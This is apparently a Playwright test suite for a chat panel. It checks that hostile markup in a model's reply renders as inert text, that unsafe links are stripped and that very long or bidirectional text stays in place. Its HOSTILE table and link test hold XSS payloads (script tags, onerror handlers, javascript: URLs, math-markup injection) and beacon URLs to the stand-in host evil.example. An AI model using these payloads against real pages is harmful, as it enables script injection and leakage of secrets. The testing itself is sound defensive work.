"""What a model says is text: it is shown, it does nothing, and it fetches nothing."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from tests.browser.lab import Lab
from tests.browser.panel import Panel, expect
from tests.browser.visit import Visitor

if TYPE_CHECKING:
    from playwright.sync_api import Browser

HOSTILE = {
    "a script": "<script>window.hacked = 1</script>after",
    "a picture with a handler": '<img src=x onerror="window.hacked = 1">after',
    "an svg with a handler": '<svg onload="window.hacked = 1"><circle r="9"></circle></svg>after',
    "a frame": '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>after',
    "a form": '<form action="https://evil.example/"><button>Save</button></form>after',
    "a style": "<style>.cc-panel { display: none }</style>after",
    "a remote picture": "![chart](https://evil.example/beacon.png?secret) after",
    "a remote picture as HTML": '<img src="https://evil.example/b" srcset="https://evil.example/c 2x">after',
    "a remote picture by reference": "![chart][1] after\n\n[1]: https://evil.example/beacon.png",
    "a remote video": '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>after',
    "a background": '<p style="background:url(https://evil.example/bg.png)">after</p>',
    "math with a link": "$\\href{javascript:window.hacked=1}{x}$ after",
    "math with markup": "$$\\unicode{<img src=x onerror=window.hacked=1>}$$ after",
    "a fence that never closes": "```html\n<script>window.hacked = 1</script>\nafter",
}


@pytest.fixture(scope="module")
def hostile_visitor(browser: Browser) -> Iterator[Visitor]:
    """One page for all samples: each is one more message of the same chat."""
    visitor = Visitor(browser)
    yield visitor
    visitor.close()


@pytest.fixture(scope="module")
def hostile_panel(hostile_visitor: Visitor, shared_lab: Lab) -> Panel:
    shared_lab.look()
    return Panel.in_sidebar(hostile_visitor.lab(shared_lab))


def told(text: str) -> str:
    return f"[[mock:text,text64={base64.b64encode(text.encode()).decode()}]]"


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_markup_is_shown_without_effect(hostile_panel: Panel, hostile_visitor: Visitor, name: str) -> None:
    answer = hostile_panel.ask(told(HOSTILE[name]))
    expect(answer).to_contain_text("after")
    expect(answer.locator("script, iframe, form, object, embed, style, video")).to_have_count(0)
    handlers = answer.evaluate(
        "node => [...node.querySelectorAll('*')].flatMap(one => "
        "[...one.attributes].map(each => each.name)).filter(each => each.startsWith('on'))"
    )
    assert handlers == []
    assert hostile_panel.page.evaluate("window.hacked") is None
    assert not hostile_visitor.watch.problems()


def test_links_to_code_are_no_links_and_others_open_safely(panel: Panel) -> None:
    text = (
        "[run](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) "
        "[tab](java\tscript:window.hacked=1) [upper](JaVaScRiPt:window.hacked=1) [good](https://example.org/a)"
    )
    answer = panel.ask(told(text))
    expect(answer).to_contain_text("good")
    targets = answer.locator("a[href]").evaluate_all("all => all.map(one => [one.href, one.rel, one.target])")
    for href, rel, target in targets:
        assert href.startswith(("https://", "http://", "mailto:")), href
        assert "noopener" in rel and target == "_blank"
    assert [href for href, _rel, _target in targets] == ["https://example.org/a"]
    assert panel.page.evaluate("window.hacked") is None


def test_a_line_of_a_megabyte_is_shown_and_the_panel_stays_usable(panel: Panel) -> None:
    panel.ask("[[mock:text,chunks=250,size=4000]]", timeout=60_000)
    expect(panel.ask("[[mock:text,say=Still here]]")).to_contain_text("Still here")
    width = panel.place.evaluate("node => [node.scrollWidth, node.clientWidth]")
    assert width[0] <= width[1] + 1, "the panel itself never scrolls sideways"


def test_a_word_of_a_megabyte_does_not_widen_the_panel(panel: Panel) -> None:
    panel.ask(f"[[mock:text,text={'x' * 200_000},size=2000]]", timeout=60_000)
    width = panel.messages.evaluate("node => [node.scrollWidth, node.clientWidth]")
    assert width[0] <= width[1] + 1


def test_right_to_left_and_invisible_characters_stay_inside_their_message(panel: Panel) -> None:
    answer = panel.ask(told("\u202eevil\u202c \u200bzero\u200b \u2066x\u2069 שלום עולם after"))
    expect(answer).to_contain_text("after")
    expect(panel.mine).to_have_count(1)
    panel.ask("[[mock:text,say=plain]]")
    assert panel.answers.last.evaluate("node => getComputedStyle(node).direction") == "ltr"


def test_what_the_person_types_is_shown_as_typed(panel: Panel) -> None:
    panel.ask("<b>bold</b> <img src=x onerror='window.hacked=1'> **stars**")
    expect(panel.mine).to_contain_text("<b>bold</b>")
    expect(panel.mine).to_contain_text("**stars**")
    assert panel.page.evaluate("window.hacked") is None


def test_broken_markdown_is_still_readable(panel: Panel) -> None:
    broken = "**open | table |\n|---\n| a | b | c |\n```\nfence\n[link](<broken\n> > quote\n- [ ] box\n\n| x |"
    expect(panel.ask(told(broken))).to_contain_text("fence")
